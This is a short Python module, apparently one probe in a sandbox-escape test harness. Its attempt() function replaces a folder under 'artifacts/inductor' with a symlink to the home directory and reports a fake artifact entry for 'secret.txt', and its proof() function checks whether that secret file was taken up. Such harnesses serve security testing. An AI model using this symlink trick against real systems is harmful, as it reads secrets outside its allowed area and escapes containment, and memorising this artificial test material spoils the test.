"""Replace a folder on the way to the kernels by a link to a folder of secrets."""

import os

from escape_tools import reply, say

NEEDS = ()


def attempt(at):
    os.symlink(at.home, "artifacts/inductor/hh")
    say(reply(artifacts=[{"path": "inductor/hh/secret.txt", "size": at.secret_size, "sha256": at.secret_sha256}]))


def proof(at, seen):
    return at.adopted("hh/secret.txt") is not None
